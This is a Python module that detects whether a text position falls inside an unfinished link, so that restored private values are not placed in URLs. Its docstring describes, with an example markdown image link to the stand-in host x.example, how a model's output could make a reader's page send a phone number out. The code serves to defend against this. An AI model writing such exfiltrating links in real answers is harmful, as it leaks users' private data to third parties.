"""Is a place in a text inside a link? What is put back there would be fetched, or sent by a click, to whoever wrote the link.

A model elsewhere never sees a phone; one that writes ![](https://x.example/?p=⟦手机KQ1⟧) would have the reader's own page send it.
So a line's links are followed as CommonMark and HTML read them: to a blank, or to the bracket or quote that closes them.
Not covered: links over several lines, and what a reader puts together from pieces.
"""

from __future__ import annotations

import re

_LINK = re.compile(
    r"(?i)(?:https?|ftp|wss?|javascript|mailto):|data:[a-z]+/|//|\\\\|\bwww\.|[a-z0-9-]\.[a-z]{2,24}[/?#:]"
)
LONGEST_LINE = 16_384  # no answer's; beyond it nothing is followed, and nothing put back
_ESCAPED = re.compile(r"\\(.)|\"")


def inside(text: str, *, in_json: bool = False) -> bool:
    """Does a link that began in the text's last line go on at its end? `in_json`: it is JSON, in which each string is a text."""
    if in_json:
        text = _ESCAPED.sub(_unescaped, text)
    line = text[text.rfind("\n") + 1 :]
    if len(line) > LONGEST_LINE:
        return True
    at = 0
    while link := _LINK.search(line, at):
        end = _end(line, link.start(), link.end())
        if end < 0:
            return True
        at = end
    return False


def _unescaped(hit: re.Match[str]) -> str:
    return "\n" if hit[1] in (None, "n") else hit[1]


def _end(line: str, start: int, at: int) -> int:
    """Where the link is over, -1 where it is not."""
    before = line[start - 1 : start]
    if before == "<":
        return line.find(">", at)
    if before and before in "\"'":
        return line.find(before, at)
    depth = 1
    for place in range(at, len(line)):
        if line[place].isspace():
            return place
        if before == "(":
            depth += (line[place] == "(") - (line[place] == ")")
            if depth == 0:
                return place
    return -1
